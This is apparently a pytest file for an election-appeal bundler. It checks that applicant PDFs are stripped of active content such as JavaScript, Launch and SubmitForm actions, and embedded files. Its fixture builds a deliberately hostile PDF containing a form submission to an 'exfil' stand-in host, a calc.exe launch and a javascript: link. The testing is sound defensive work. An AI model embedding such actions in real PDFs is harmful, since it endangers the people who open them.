"""The applicant's PDF attachments enter the bundle without what a viewer would run or open:
scripts, launched programs, forms that send themselves, embedded files."""

from __future__ import annotations

import io
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from conftest import edit_case
from election_appeal.render.pdf_active import without_active_content

CONTENT = b"BT /F1 24 Tf 72 700 Td (Protocol 1) Tj ET"


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def _link(action: DictionaryObject, subtype: str = "/Link") -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)]),
            NameObject("/A"): action,
        }
    )


def _hostile_pdf() -> bytes:
    """One page showing CONTENT, with every kind of active content the review found, and
    two links that only go somewhere (kept)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = DecodedStreamObject()
    stream.set_data(CONTENT)
    page[NameObject("/Contents")] = writer._add_object(stream)
    script = _action("/JavaScript", JS=TextStringObject("this.submitForm('http://x/exfil')"))
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
    launch = _action("/Launch", F=TextStringObject("calc.exe"))
    goto = _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))
    goto[NameObject("/Next")] = _action("/SubmitForm", F=TextStringObject("http://x/"))
    web = _action("/URI", URI=TextStringObject("https://example.org/"))
    script_address = _action("/URI", URI=TextStringObject("javascript:alert(1)"))
    attached = _link(_action("/GoTo", D=ArrayObject([NumberObject(0)])), "/FileAttachment")
    page[NameObject("/Annots")] = ArrayObject(
        [writer._add_object(_link(a)) for a in (launch, goto, web, script_address)]
        + [writer._add_object(attached)]
    )
    writer._root_object[NameObject("/OpenAction")] = script
    writer.add_attachment("secret.txt", b"secret")
    names = writer._root_object["/Names"]
    opened = _action("/JavaScript", JS=TextStringObject("app.alert('opened');"))
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(opened)])}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_active_content_is_removed_and_the_page_kept() -> None:
    cleaned, removed = without_active_content(_hostile_pdf())

    assert removed == [
        "additional actions (/AA)",
        "embedded files",
        "FileAttachment annotations",
        "JavaScript",
        "Launch actions",
        "OpenAction",
        "SubmitForm actions",
        "URI actions",
    ]
    reader = PdfReader(io.BytesIO(cleaned))
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root
    assert "/JavaScript" not in root.get("/Names", {})
    assert "/EmbeddedFiles" not in root.get("/Names", {})
    (page,) = reader.pages
    assert "/AA" not in page
    assert page.get_contents().get_data() == CONTENT
    actions = [a.get_object().get("/A") for a in page["/Annots"]]
    # The launching link and the javascript: address lose their action; the attached file
    # goes; the place in the document and the web address are kept, the former without the
    # form it would then send.
    assert [a and (a["/S"], a.get("/URI"), "/Next" in a) for a in actions] == [
        None,
        ("/GoTo", None, False),
        ("/URI", "https://example.org/", False),
        None,
    ]
    for word in (b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"calc.exe", b"secret"):
        assert word not in cleaned


def test_a_pdf_without_active_content_is_kept_byte_for_byte() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    assert without_active_content(out.getvalue()) == (out.getvalue(), [])


def test_an_attachment_enters_the_documents_cleaned_with_a_warning(case_dir: Path) -> None:
    from election_appeal.case import load_case
    from election_appeal.render.documents import user_attachments

    (case_dir / "evil.pdf").write_bytes(_hostile_pdf())

    def attach(case: dict) -> None:
        case["attachments"] = [{"kind": "other", "title": "Документ", "file": "evil.pdf"}]

    edit_case(case_dir, attach)
    warnings: list[str] = []
    ((entry, content),) = user_attachments(load_case(case_dir), warnings)
    assert content is not None
    assert b"/Launch" not in content and b"/AA" not in content
    assert entry.sheets == 1
    assert warnings == [
        f"{case_dir / 'evil.pdf'}: removed from this PDF what a viewer would run or open "
        "instead of showing (additional actions (/AA), embedded files, FileAttachment "
        "annotations, JavaScript, Launch actions, OpenAction, SubmitForm actions, URI actions); "
        "its pages are kept as they look"
    ]


def test_check_warns_of_what_the_build_will_take_out(case_dir: Path) -> None:
    from election_appeal import api

    (case_dir / "evil.pdf").write_bytes(_hostile_pdf())

    def attach(case: dict) -> None:
        case["attachments"] = [{"kind": "other", "title": "Документ", "file": "evil.pdf"}]

    edit_case(case_dir, attach)
    said = [str(p) for p in api.check(case_dir).warnings if "evil.pdf" in p.file]
    assert said == [
        f"{case_dir / 'evil.pdf'}: the bundle will hold this PDF without what a viewer would "
        "run or open instead of showing (additional actions (/AA), embedded files, "
        "FileAttachment annotations, JavaScript, Launch actions, OpenAction, SubmitForm "
        "actions, URI actions); its pages are kept as they look"
    ]
